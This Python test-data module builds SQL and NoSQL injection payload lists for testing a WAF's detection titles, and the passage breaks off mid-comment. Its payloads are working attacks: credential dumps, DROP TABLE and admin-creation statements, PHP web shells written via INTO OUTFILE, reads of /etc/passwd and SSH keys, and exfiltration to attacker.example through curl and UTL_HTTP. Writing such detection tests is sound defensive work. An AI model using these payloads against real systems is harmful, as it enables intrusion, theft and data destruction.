"""Blind set "hundredfortythird": SQL injection shaped as polyglots, multi-context and second-order values, one
list per SQL injection detection title, with benign requests that carry the same words innocently.

The angle: one value that breaks out of several contexts at once, or that works whichever back end receives it.
A numeric, a single-quoted and a MySQL double-quoted context closed by the same prefix (1/*'/*"/**/ ...), a
string that closes an HTML attribute or a JSON string before the SQL string, `'||x||'` that is concatenation on
PostgreSQL and Oracle and OR on MySQL, LIKE-pattern and ORDER BY contexts next to WHERE ones, INSERT ... VALUES
breakouts for values that are logged (User-Agent, Referer, X-Forwarded-For, a login name in the audit log), and
second-order values: a profile name, a file name or a header stored today that fires when an admin page, a
report, a log viewer or an export queries it later. Every payload's primary target is SQL (or, for
nosql-injection, a MongoDB query or $where); the comment above each list names the database(s) it is written for.

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (a query parameter of /api/users, the admin
user search /admin/users?q=, a profile field of PATCH /api/users/<id>, the admin login form, a cookie,
User-Agent, Referer, X-Forwarded-For, a parameter name, an XML body, a multipart field or import file name, the
URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our
routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names,
as a query string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom
header or a cookie. Login bypasses go to the login form's username (and password); MongoDB operator documents go
as whole JSON bodies and `field[$op]=v` pairs go unquoted as the query string.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import CSRF, FORM, BlindSet, Cycles, Put, Record, request
from .family_gen import _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredfortythird"


def _hex(text: str) -> str:
    """A MySQL / MSSQL hex literal of `text`."""
    return "0x" + text.encode().hex()


# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when the payload only works
# in one kind of place.
Entry = str | tuple[str, str, str]

# One prefix closes three contexts at once on MySQL: unquoted (all of it is a comment), '...' (the quote ends the
# string, the rest is a comment) and "..." (the same for a double-quoted string).
P3 = "1/*'/*\"/**/"

# MySQL 8 / MariaDB 10, PostgreSQL 16, MSSQL 2019, SQLite 3: the general injection shapes (string and numeric
# breakouts, operator, terminator), several contexts at once, and values that are stored and queried later
LIBINJ: list[Entry] = [
    P3 + "OR 1=1-- -",
    P3 + "OR 2>1#",
    "\"' OR 1=1-- -\"><!--",
    "x'||1||'",
    "1\" OR \"1\"=\"1' OR '1'='1",
    "\") OR (\"x\"=\"x') OR ('x'='x",
    "1)) OR ((1=1",
    "-1 OR 1=1)-- -'\"",
    "\\' OR 1=1-- -",
    "1 AND 1=1-- '\"><svg onload=alert(1)>",
    "1' AND 1=1 AND '%'='",
    "'-'",
    "' OR TRUE-- -",
    "1 OR 1=1",
    "1' AND (SELECT 1)='1",
    "x' AND 1=(SELECT 1)-- -\"}",
    "O'Neil' OR '1'='1",
    "Mozilla/5.0' OR 1=1-- -",
    "127.0.0.1' OR '1'='1",
    "1' AND 'a'<>'b",
    "') OR 1=1-- -\"></textarea>",
    "1' && '1'='1",
    "1' || '1'='1",
    "1 || 1=1",
    "-1' OR 1 -- -",
    "x' OR NOT 0-- -",
    "1') AND ('1'='1",
    "1' OR 1#\"",
]
# MySQL, PostgreSQL, MSSQL, Oracle, SQLite: always-true / always-false conditions (boolean inference), in
# numeric, quoted, bracketed and stored-name contexts
TAUTOLOGY: list[Entry] = [
    P3 + "OR 'a'='a'-- -",
    "' OR 1=1 OR '\"='",
    "x' OR 'x'='x",
    "x\" OR \"x\"=\"x",
    "1 OR 2>1",
    "1' OR 2>1-- -",
    "1' OR 'b'>'a",
    "1) OR (2=2",
    "1')) OR (('1'='1",
    "' OR TRUE#",
    "1 AND 1=1",
    "1 AND 1=2",
    "1' AND 1=2-- -",
    "1' AND 'a'='b",
    "1 OR 7-6=1",
    "' OR 'unusual'='unusual",
    "'=0-- -",
    "' OR NOT 1=2-- -",
    "1 OR 1<>2",
    "' OR 1=1) -- -\"}]",
    "x' OR 1=1-- -\"></option>",
    "') OR true--",
    "1 OR 'a'='a'",
    "' OR 'a'='a' --\">",
    "-1' OR 1=1 OR ''='",
    "1' AND TRUE AND '1",
    "Robert' OR 1=1 OR name='",
    "1 OR 1=1 /* ${7*7} {{7*7}} */",
]
# MySQL (# and -- with a space), PostgreSQL / MSSQL / SQLite (-- and /* */), Oracle: the comment that cuts the
# rest of the query off (the password check, the LIMIT, the closing quote), after several context breakouts
COMMENT_SEQ: list[Entry] = [
    "admin'-- ",
    "1'#",
    "1;--",
    "x'/*",
    "1 OR 1=1-- -\"><!--",
    "'/**/--",
    "');--",
    "'))-- -",
    "\"-- -",
    "\")#",
    P3 + "-- -",
    "1 LIMIT 1-- -",
    "x' OR 'a'='a'--+",
    "1' OR 1=1;#",
    "' AND 1=1/*",
    "x'--\n",
    "' OR 1=1 --\"}",
    "1'-- -</script><script>alert(1)//",
    "5' ORDER BY 1--",
    "'#'\"",
    "x\")/*",
    "' OR 1=1-- '; DROP TABLE x",
    "1)-- -",
    "'/*!*/-- -",
    "Ann Lee'-- -",
    "127.0.0.1'-- -",
    "\\'-- -",
    "';--'\"></a>",
]
# MySQL, PostgreSQL, MSSQL, Oracle, SQLite: UNION SELECT into the result set, including values that land in a
# page as HTML (a stored XSS through the SQL result) and names stored for the admin report
UNION: list[Entry] = [
    P3 + "UNION ALL SELECT NULL,version()-- -",
    "-1' UNION SELECT username,password FROM users-- -",
    "' UNION SELECT NULL,NULL,NULL-- -",
    "1 UNION ALL SELECT 1,2,3#",
    "0' UNION SELECT 1,@@version-- -",
    "') UNION SELECT 1,user()-- -",
    "' UNION SELECT NULL,banner FROM v$version--",
    "' UNION SELECT NULL,sqlite_version()--",
    "' UNION ALL SELECT NULL,@@version,NULL--",
    "1' UNION SELECT current_user,NULL-- -",
    "x' UNION SELECT '<svg onload=alert(1)>',NULL-- -",
    "' UNION SELECT NULL,'\"><script src=//x.attacker.example/a.js></script>'-- -",
    "' UNION SELECT username,password_hash FROM admin_accounts-- -",
    "-1 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b-- -",
    "' UNION DISTINCT SELECT NULL,NULL-- -",
    "1)) UNION SELECT NULL,NULL-- -",
    "\" UNION SELECT 1,2-- -",
    "1 UNION SELECT NULL,json_agg(u)::text FROM users u--",
    "' UNION SELECT email,slack_user_id FROM users-- -",
    "x' UNION SELECT 1,2 FROM DUAL-- -",
    "-1' UNION SELECT 1,(SELECT token FROM sessions LIMIT 1)-- -",
    "1 UNION ALL SELECT NULL,NULL,NULL,NULL,NULL,NULL-- -",
    "' UNION SELECT NULL,NULL FROM dual WHERE 1=1-- -'\"><!--",
    "Anna' UNION SELECT password,NULL FROM users WHERE name='admin'-- -",
    "' UNION SELECT TOP 1 name,NULL FROM sysobjects--",
    "1' UNION SELECT NULL,CONCAT(0x7e,user(),0x7e)-- -",
    "%' UNION SELECT NULL,NULL-- -",
    "'||(SELECT '') UNION SELECT NULL,current_database()--",
]
# Statement stacking: MSSQL, PostgreSQL (simple query protocol), MySQL with multi-statements, SQLite
# executescript; schema and data changes, new admins, file writes through ATTACH
STACKED: list[Entry] = [
    "1'; DROP TABLE users-- -",
    "1; DROP TABLE audit_log--",
    "'; UPDATE users SET is_admin=true WHERE email='eve@attacker.example'--",
    "'; INSERT INTO admin_accounts(username,password_hash) VALUES('eve','x')--",
    "1;SHUTDOWN WITH NOWAIT--",
    "');DELETE FROM sessions;--",
    "x'; TRUNCATE TABLE users CASCADE;--",
    "1; CREATE TABLE pwn(t text); COPY pwn FROM '/etc/passwd';--",
    "';EXEC('SEL'+'ECT 1')--",
    P3 + ";DROP TABLE users-- -",
    "'; ALTER USER postgres WITH PASSWORD 'pwned';--",
    "1; GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%';-- -",
    "'; CREATE USER eve WITH SUPERUSER PASSWORD 'x';--",
    "';DECLARE @q varchar(99);SET @q='SELECT 1';EXEC(@q)--",
    "1;UPDATE users SET email='eve@attacker.example' WHERE id=1",
    "'; SET GLOBAL general_log='ON';-- -",
    "x');INSERT INTO users(name,email) VALUES('<script>alert(1)</script>','x@attacker.example');--",
    "'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t(c text); "
    "INSERT INTO p.t VALUES('<?php system($_GET[0]);?>');--",
    "1; COMMIT; DROP SCHEMA public CASCADE;--",
    "\"; DROP TABLE sessions; --",
    "1);DROP TABLE users;--",
    "'); UPDATE admin_accounts SET totp_secret=NULL;--",
    "Robert'); DROP TABLE Students;--",
    "'; CREATE OR REPLACE FUNCTION f() RETURNS trigger AS $$BEGIN NEW.is_admin:=true; RETURN NEW; END$$ "
    "LANGUAGE plpgsql;--",
    "'; PREPARE s FROM 'SELECT 1'; EXECUTE s;-- -",
    "x';SELECT * FROM users;--",
    "1';RENAME TABLE users TO users_old;-- -",
    "'; VACUUM INTO '/tmp/dump.db';--",
]
# Time-based blind: MySQL SLEEP / BENCHMARK, PostgreSQL pg_sleep, MSSQL WAITFOR, Oracle DBMS_PIPE, SQLite heavy
# RANDOMBLOB; the classic three-context sleep polyglot and logged-header (INSERT) contexts
TIME: list[Entry] = [
    "SLEEP(5)/*' or SLEEP(5) or '\" or SLEEP(5) or \"*/",
    P3 + "AND SLEEP(5)-- -",
    "' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -",
    "1 AND BENCHMARK(5000000,SHA1('x'))",
    "';SELECT pg_sleep(5)--",
    "'||pg_sleep(5)||'",
    "'; WAITFOR DELAY '0:0:5'--",
    "1); WAITFOR DELAY '00:00:05'--",
    "' AND 1=(SELECT 1 FROM pg_sleep(5))--",
    "' OR IF(1=1,SLEEP(5),0)-- -",
    "1 AND (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END) IS NULL",
    "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--",
    "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--",
    "Mozilla/5.0' AND SLEEP(5) AND '1'='1",
    "127.0.0.1' AND SLEEP(5)#",
    "1' XOR SLEEP(5) XOR '1",
    "if(now()=sysdate(),sleep(5),0)",
    "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
    "'+(SELECT 1 FROM (SELECT SLEEP(5))a)+'",
    "1;SELECT SLEEP(5)#",
    "\"; WAITFOR DELAY '0:0:5'--",
    "'; IF (1=1) WAITFOR DELAY '0:0:5'--",
    "' AND 1=(SELECT COUNT(*) FROM sysusers AS a, sysusers AS b, sysusers AS c)--",
    "1 RLIKE SLEEP(5)",
    "' OR SLEEP(5)='",
    "'; SELECT CASE WHEN (SELECT current_user)='postgres' THEN pg_sleep(5) END--",
    "{{7*7}}' AND SLEEP(5)-- -${7*7}",
    "1' AND SLEEP(5) AND '\"><img src=x onerror=alert(1)>",
    "1 AND 7=(SELECT 7 FROM PG_SLEEP(5))",
    "' WAITFOR DELAY '0:0:5'--",
    "1) AND SLEEP(5)#",
]
# Error-based: MySQL extractvalue / updatexml / floor(rand) / exp / GTID / JSON / geometry, PostgreSQL and MSSQL
# CAST / CONVERT, Oracle CTXSYS / UTL_INADDR / XMLType, SQLite integer overflow; also INSERT ... VALUES contexts
ERROR: list[Entry] = [
    "1 AND extractvalue(1,concat(0x7e,version()))",
    "' AND updatexml(1,concat(0x7e,(SELECT user())),1)-- -",
    P3 + "AND extractvalue(1,concat(0x5c,database()))-- -",
    "' AND 1=CONVERT(int,@@version)--",
    "' AND 1=CAST(version() AS int)--",
    "1 AND 1=CAST((SELECT current_user) AS numeric)",
    "' AND 1=(SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables "
    "GROUP BY x)a)-- -",
    "' AND EXP(~(SELECT * FROM (SELECT user())a))-- -",
    "' AND GTID_SUBSET(CONCAT(0x7e,(SELECT version())),1)-- -",
    "' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))-- -",
    "1' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--",
    "' AND 1=UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE rownum=1))--",
    "' AND 1=XMLType('<:'||(SELECT user FROM dual)||'>')--",
    "'+CONVERT(int,(SELECT TOP 1 name FROM sys.databases))+'",
    "' AND 1=CAST(CHR(126)||(SELECT string_agg(usename,',') FROM pg_user) AS int)--",
    "' AND ST_LatFromGeoHash(version())-- -",
    "' OR POLYGON((SELECT * FROM (SELECT * FROM (SELECT @@version)f)x))-- -",
    "' AND row(1,1)>(SELECT COUNT(*),CONCAT(user(),0x3a,FLOOR(RAND(0)*2))x FROM (SELECT 1 UNION SELECT 2)a "
    "GROUP BY x LIMIT 1)-- -",
    "1 AND 1=(SELECT CAST(email AS int) FROM users LIMIT 1)",
    "x' AND 1=CONVERT(int,(SELECT username FROM admin_accounts FOR XML PATH('')))--",
    "' AND updatexml(1,concat(0x7e,(SELECT password_hash FROM admin_accounts LIMIT 1)),1)-- -\"><!--",
    "' || (SELECT CAST(current_setting('data_directory') AS int)) || '",
    "1 AND 1=CONVERT(int,DB_NAME())",
    "' AND 1=CAST(pg_read_file('/etc/hostname') AS int)--",
    "1,updatexml(1,concat(0x7e,user()),1))-- -",
    "Mozilla/5.0', extractvalue(1,concat(0x7e,@@version)))-- -",
    "' AND abs(-9223372036854775808) AND sqlite_version()--",
    "' AND 1=CONVERT(INT,(CHAR(58)+SUSER_NAME()+CHAR(58)))--",
    "1 AND extractvalue(rand(),concat(0x3a,(SELECT schema_name FROM information_schema.schemata LIMIT 1)))",
]
# Out-of-band and file channels: MySQL load_file / INTO OUTFILE / DUMPFILE / UNC paths (Windows), MSSQL
# xp_dirtree / xp_fileexist / OPENROWSET / BULK INSERT, Oracle UTL_HTTP / UTL_INADDR / HTTPURITYPE / DBMS_LDAP /
# XXE, PostgreSQL dblink / COPY / pg_read_file / lo_import, SQLite load_extension
OOB: list[Entry] = [
    "' UNION SELECT load_file('/etc/passwd'),NULL-- -",
    "1 AND load_file(concat('\\\\\\\\',version(),'.oob.attacker.example\\\\a'))",
    "' UNION SELECT '<?php system($_GET[0]);?>',NULL INTO OUTFILE '/var/www/html/s.php'-- -",
    "1 LIMIT 1 INTO OUTFILE '/var/lib/mysql-files/out.txt'",
    "' INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'-- -",
    "'; EXEC master..xp_dirtree '\\\\oob.attacker.example\\a'--",
    "'; EXEC master.dbo.xp_fileexist '\\\\oob.attacker.example\\share\\x'--",
    "'; EXEC master..xp_subdirs '\\\\10.0.0.66\\s'--",
    "' AND 1=UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual))--",
    "' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT password FROM dba_users WHERE rownum=1)) || '",
    "' AND 1=(SELECT dblink_connect('host=oob.attacker.example user=x dbname='||current_user))--",
    "'; SELECT * FROM dblink('host=203.0.113.9 user=a password=b dbname=c','SELECT 1') AS t(a int);--",
    "'; COPY (SELECT current_user) TO '/tmp/u.txt';--",
    "' UNION SELECT NULL,pg_read_file('/etc/passwd',0,200)--",
    "'; COPY users TO PROGRAM 'curl -d @- http://oob.attacker.example/';--",
    "' AND (SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
    "\"http://oob.attacker.example/\">%x;]>'),'/l') FROM dual) IS NOT NULL--",
    "';DECLARE @p varchar(99);SELECT @p=DB_NAME();EXEC('master..xp_dirtree ''\\\\'+@p+'.oob.attacker.example\\x''')--",
    "1 AND (SELECT load_extension('\\\\oob.attacker.example\\x\\evil.dll'))",
    "'; SELECT lo_import('/etc/passwd');--",
    "' AND 1=DBMS_LDAP.INIT('oob.attacker.example',389)--",
    "' AND (SELECT HTTPURITYPE('http://oob.attacker.example/x').GETCLOB() FROM dual) IS NOT NULL--",
    "' UNION SELECT 1 INTO OUTFILE '\\\\\\\\oob.attacker.example\\\\s\\\\x'-- -",
    "'; BULK INSERT notes FROM '\\\\oob.attacker.example\\s\\x.txt';--",
    "' UNION SELECT NULL,x FROM OPENROWSET(BULK 'C:\\Windows\\win.ini',SINGLE_CLOB) AS r(x)--",
    "1; SELECT * FROM OPENROWSET('SQLOLEDB','server=oob.attacker.example;uid=sa;pwd=x','SELECT 1')--",
    "' OR 1=(SELECT COUNT(*) FROM pg_ls_dir('/'))--",
    "';LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE notes-- -",
    "Anna', (SELECT load_file('/root/.ssh/id_rsa')))-- -",
    "'||(SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.oob.attacker.example') FROM dual)||'",
]
# Catalog probing: MySQL information_schema / mysql.* / sys, PostgreSQL pg_catalog, MSSQL sysobjects / sys.* /
# INFORMATION_SCHEMA, Oracle all_* / dba_*, SQLite sqlite_master / pragma functions
CATALOG: list[Entry] = [
    "' UNION SELECT table_name,NULL FROM information_schema.tables-- -",
    "-1 UNION SELECT 1,group_concat(column_name) FROM information_schema.columns WHERE table_name='users'-- -",
    "' UNION SELECT schema_name,NULL FROM information_schema.schemata-- -",
    P3 + "UNION SELECT table_schema,table_name FROM information_schema.tables-- -",  # noqa: S608
    "' AND (SELECT COUNT(*) FROM information_schema.tables)>0-- -",
    "' UNION SELECT NULL,tablename FROM pg_catalog.pg_tables WHERE schemaname='public'--",
    "' UNION SELECT NULL,relname FROM pg_class WHERE relkind='r'--",
    "' UNION SELECT NULL,attname FROM pg_attribute WHERE attrelid='users'::regclass--",
    "' UNION SELECT name,NULL FROM sqlite_master WHERE type='table'--",
    "' UNION SELECT sql,NULL FROM sqlite_schema--",
    "' UNION SELECT name,NULL FROM sysobjects WHERE xtype='U'--",
    "' UNION SELECT name,NULL FROM sys.tables--",
    "' UNION SELECT name,NULL FROM master..sysdatabases--",
    "' UNION SELECT table_name,NULL FROM all_tables--",
    "' UNION SELECT column_name,NULL FROM all_tab_columns WHERE table_name='USERS'--",
    "' UNION SELECT username,NULL FROM all_users--",
    "' UNION SELECT owner,table_name FROM dba_tables--",
    "1 AND (SELECT COUNT(*) FROM mysql.user)>0",
    "' UNION SELECT user,authentication_string FROM mysql.user-- -",
    "' UNION SELECT usename,passwd FROM pg_shadow--",
    "' UNION SELECT table_name,NULL FROM information_schema.tables WHERE table_name LIKE '%admin%'-- -",
    "' AND 1=(SELECT 1 FROM information_schema.columns WHERE column_name='password_hash' LIMIT 1)-- -",
    "' UNION SELECT NULL,database_name FROM mysql.innodb_table_stats-- -",
    "' UNION SELECT NULL,table_name FROM sys.schema_table_statistics-- -",
    "' UNION SELECT NULL,name FROM pragma_table_info('users')--",
    "' UNION SELECT NULL,datname FROM pg_database--",
    "Anna' UNION SELECT table_name,column_name FROM information_schema.columns-- -",
    "' UNION SELECT NULL,COLUMN_NAME FROM INFORMATION_SCHEMA.COLUMNS WHERE TABLE_NAME='users'--",
    "' UNION SELECT NULL,string_agg(table_name,',') FROM information_schema.tables WHERE table_schema='public'--",
]
# MySQL / MariaDB: versioned /*!...*/ comments, empty comments as whitespace, # and -- with a newline, and the
# comment-stripping-filter trick; several combined with the three-context prefix
MYSQL_COMMENT: list[Entry] = [
    "1/*!50000UNION*//*!50000SELECT*/1,2-- -",
    "'/*!OR*/1=1-- -",
    "1/*!12345UNION*/ /*!12345ALL*/ /*!12345SELECT*/ 1,user()",
    "' /*!50000AND*/ SLEEP(5)-- -",
    "1 UNION/**/SELECT/**/1,2#",
    "'/**/OR/**/1/**/=/**/1#",
    "1'/*!AND*/'1'='1",
    "-1/**/UNION/**/ALL/**/SELECT/**/NULL,version()#",
    "1 /*!00000union*/ /*!00000select*/ 1,2",
    "'#\nOR 1=1#",
    "1 UNION--\nSELECT 1,2",
    "1 UNION#foo\nSELECT 1,2",
    "' UNI/**/ON SEL/**/ECT 1,2-- -",
    "1 AND /*!32302 1=1*/",
    "'/*!50000or*/'1'='1",
    P3 + "/*!UNION*//*!SELECT*/1,2-- -",
    "1 /*!UnIoN*/ /*!SeLeCt*/ 1,2",
    "admin'/**/#",
    "' /*!40101 OR */ 1=1 #",
    "1 /*!50700 AND*/ 1=(/*!SELECT*/ 1)",
    "')/*!OR*/('1'='1",
    "x'/*!50000UNION*/ /*!50000SELECT*/ table_name,2 /*!FROM*/ information_schema.tables-- -",
    "1/**//*!12345UNION SELECT*//**/1,2",
    "'/*\"*/OR/*!*/1-- -\"><!--",
    "1 /*!or*/ 2>1",
    "1'/*!50000AND*/SLEEP/**/(5)#",
    "1 UNION/*&a=*/SELECT 1,2",
    "'/*!12345UnIoN*//**//*!12345sElEcT*/NULL,@@version#",
]
# Character-level probing for blind extraction: MySQL SUBSTRING / MID / ASCII / ORD / LEFT / INSTR / CONCAT,
# PostgreSQL get_byte / CHR, MSSQL UNICODE / CHAR, Oracle SUBSTR, SQLite unicode / substr
FUNCTIONS: list[Entry] = [
    "1 AND ASCII(SUBSTRING(user(),1,1))>64",
    "' AND SUBSTRING(version(),1,1)='8'-- -",
    "' AND ASCII(SUBSTR((SELECT password_hash FROM admin_accounts LIMIT 1),1,1))=36-- -",
    P3 + "AND ORD(MID(database(),1,1))>100-- -",
    "' AND LENGTH(database())=5-- -",
    "' AND SUBSTR(current_user,1,1)='p'--",
    "' AND unicode(substr(sqlite_version(),1,1))=51--",
    "' AND ASCII(SUBSTRING(DB_NAME(),1,1))>77--",
    "' AND SUBSTR((SELECT user FROM dual),1,1)='S'--",
    "' AND LEFT(user(),4)='root'-- -",
    "' AND RIGHT(@@version,3)='log'-- -",
    "' AND MID(@@datadir,1,1)='/'-- -",
    "' UNION SELECT CONCAT_WS(0x3a,user(),database(),version()),NULL-- -",
    "' AND CHAR_LENGTH(user())>3-- -",
    "' AND BIN(ASCII(SUBSTRING(user(),1,1)))>1000000-- -",
    "' AND HEX(SUBSTRING(user(),1,1))='72'-- -",
    "' AND POSITION('root' IN user())=1-- -",
    "' AND INSTR(user(),'@')>0-- -",
    "' AND LOCATE('localhost',user())>0-- -",
    "' AND STRCMP(SUBSTRING(user(),1,1),'r')=0-- -",
    "' AND SUBSTRING(user() FROM 1 FOR 1)='r'-- -",
    "' AND (SELECT SUBSTRING(email,1,1) FROM users LIMIT 1)='a'-- -",
    "' AND get_byte(convert_to(current_user,'UTF8'),0)=112--",
    "' AND CHR(65)||CHR(66)='AB'--",
    "' AND CHAR(65)+CHAR(66)='AB'--",
    "' AND UNICODE(SUBSTRING(SYSTEM_USER,1,1))=115--",
    "' AND REVERSE(user()) LIKE '%tsohlacol'-- -",
    "' AND LPAD(user(),1,0)='r'-- -",
    "Anna' AND ASCII(SUBSTRING((SELECT password FROM users WHERE name='admin'),1,1))>77 AND '1'='1",
]
# Login bypass against `WHERE username='..' AND password='..'` (MySQL, PostgreSQL, MSSQL, Oracle, SQLite): the
# username (and for the symmetric ones the password) of the admin login form
AUTH_BYPASS: list[Entry] = [
    "admin'-- -",
    "admin'#",
    "admin'/*",
    "admin' OR '1'='1",
    "admin')-- -",
    "admin\"-- -",
    "' OR ''='",
    "' OR 1=1--",
    "x' OR username='admin'-- -",
    "admin" + P3[1:] + "-- -",
    "') OR ('1'='1'-- -",
    "admin' AND '1'='1'-- -",
    "' OR 1=1 ORDER BY 1 LIMIT 1-- -",
    "' UNION SELECT 1,'admin','$2b$12$R9h/cIPz0gi.URNNX3kh2OPST9/PgBkqquzi.Ss7KIUgO2t0jWMUW',1-- -",
    "' UNION SELECT 'admin','5f4dcc3b5aa765d61d8327deb882cf99'-- -",
    "admin' OR 1=1#",
    "'='",
    "'or''='",
    "admin' --",
    "' OR 'x'='x'; --",
    "adm'||'in'--",
    "adm'+'in'--",
    "admin' OR 1=1 OR '\"",
    "admin\\' OR 1=1-- -",
    "' OR username IS NOT NULL-- -",
    "admin'; --",
    "' OR EXISTS(SELECT 1)-- -",
    "' OR id=1-- -",
    "x' OR is_admin=true-- -",
]
# MongoDB 6/7 (the Node.js driver / Mongoose behind Express's qs parser, PHP's array parameters): operator
# documents, operator parameters, and $where / JSON-concatenation strings that are also valid JavaScript
NOSQL: list[Entry] = [
    ('{"username":{"$ne":null},"password":{"$ne":null}}', "json-body", "rs-json-body"),
    ('{"username":"admin","password":{"$gt":""}}', "json-body", "rs-json-body"),
    ('{"username":{"$regex":"^adm"},"password":{"$exists":true}}', "json-body", "rs-json-body"),
    ('{"email":{"$in":["admin@example.org","root@example.org"]},"password":{"$nin":[""]}}',
     "json-body", "rs-json-body"),
    ('{"$where":"this.password.length>0"}', "json-body", "rs-json-body"),
    ('{"$where":"sleep(5000)||true"}', "json-body", "rs-json-body"),
    ('{"$where":"function(){return this.isAdmin==true}"}', "json-body", "rs-json-body"),
    ('{"username":"admin","$or":[{},{"a":"a"}]}', "json-body", "rs-json-body"),
    ('{"$expr":{"$eq":[1,1]}}', "json-body", "rs-json-body"),
    ('{"username":{"$not":{"$eq":"x"}},"password":{"$not":{"$eq":"x"}}}', "json-body", "rs-json-body"),
    ('{"filter":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}',
     "json-body", "rs-json-body"),
    ('{"pipeline":[{"$lookup":{"from":"admin_accounts","localField":"x","foreignField":"x","as":"leak"}}]}',
     "json-body", "rs-json-body"),
    ('{"username":{"$gte":""},"password":{"$gte":""}}', "json-body", "rs-json-body"),
    ('{"token":{"$type":2}}', "json-body", "rs-json-body"),
    ("username[$ne]=x&password[$ne]=x", "param-name", "rs-param-name"),
    ("user[$regex]=.*&pass[$regex]=.*", "param-name", "rs-param-name"),
    ("email[$gt]=&password[$gt]=", "param-name", "rs-param-name"),
    ("login[$in][]=admin&login[$in][]=root&password[$exists]=true", "param-name", "rs-param-name"),
    ("$where=sleep(5000)", "param-name", "rs-raw-body"),
    ("filter[$where]=this.isAdmin", "form", "rs-raw-body"),
    "'; return true; var x='",
    "'; sleep(5000); var y='",
    "admin' && this.password.match(/.*/)//",
    "0;return true",
    "this.password.length > 0 || '1'=='1",
    "{\"$ne\":1}",
    "', $or: [ {}, { 'a':'a",
    "' || 1==1//' OR 1=1-- -",
]
Q_VERSION = _hex("select @@version")
Q_SLEEP = _hex("SELECT SLEEP(5)")
PG_SLEEP_HEX = b"SELECT pg_sleep(5)".hex()
PHP_SHELL = _hex("<?php system($_GET[0]);?>")
# Hex and CHAR() encoded strings: MySQL 0x / X'' / b'' / introducers / UNHEX / CHAR(n,..), MSSQL 0x / CHAR+ /
# NCHAR, PostgreSQL CHR|| / E'\x' / U&'' / decode(hex), Oracle CHR / HEXTORAW, SQLite X''
HEX_CHAR: list[Entry] = [
    "' UNION SELECT " + _hex("<svg onload=alert(1)>") + ",NULL-- -",
    "1 AND user()=" + _hex("root@localhost"),
    "' OR username=0x61646d696e-- -",
    "' UNION SELECT load_file(0x2f6574632f706173737764),NULL-- -",
    "' OR name=CHAR(97,100,109,105,110)-- -",
    "' OR name=CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110)--",
    "' OR name=CHAR(97)+CHAR(100)+CHAR(109)+CHAR(105)+CHAR(110)--",
    "';DECLARE @s VARCHAR(4000);SET @s=CAST(" + Q_VERSION + " AS VARCHAR(4000));EXEC(@s)--",
    "';SET @q=" + Q_SLEEP + ";PREPARE s FROM @q;EXECUTE s;-- -",
    "1 AND UNHEX('726f6f74')=SUBSTRING_INDEX(user(),'@',1)",
    "'; DO $$BEGIN EXECUTE convert_from(decode('" + PG_SLEEP_HEX + "','hex'),'UTF8'); END$$;--",
    "' OR x'61646d696e'=name-- -",
    "' OR name=X'61646D696E'--",
    "' UNION SELECT CHAR(60,115,99,114,105,112,116,62),NULL-- -",
    "1 AND 0x31=0x31",
    "' OR 0x61=0x61-- -",
    "' UNION SELECT NULL,b'01100001'-- -",
    "' OR name=_utf8mb4 0x61646d696e-- -",
    "' OR name=CONVERT(0x61646d696e USING utf8mb4)-- -",
    "1 AND UNHEX(HEX(user()))=user()",
    "' UNION SELECT CAST(0x73797374656d AS CHAR),NULL-- -",
    "' OR name=U&'\\0061\\0064\\006D\\0069\\006E'--",
    "' OR name=E'\\x61\\x64\\x6d\\x69\\x6e'--",
    "' OR name=NCHAR(97)+NCHAR(100)+NCHAR(109)+NCHAR(105)+NCHAR(110)--",
    "' OR name=char(0x61,0x64,0x6d,0x69,0x6e)-- -",
    "' UNION SELECT " + PHP_SHELL + " INTO OUTFILE '/var/www/html/h.php'-- -",
    "' OR name=UTL_RAW.CAST_TO_VARCHAR2(HEXTORAW('61646D696E'))--",
    "' OR name=CAST(X'61646d696e' AS TEXT)--",
    P3 + "AND user()LIKE 0x726f6f7425-- -",
]
# Stored procedures and command execution from SQL: MSSQL xp_cmdshell / sp_configure / sp_OACreate / agent jobs /
# sp_execute_external_script, MySQL UDFs (lib_mysqludf_sys), PostgreSQL COPY ... PROGRAM and C functions, Oracle
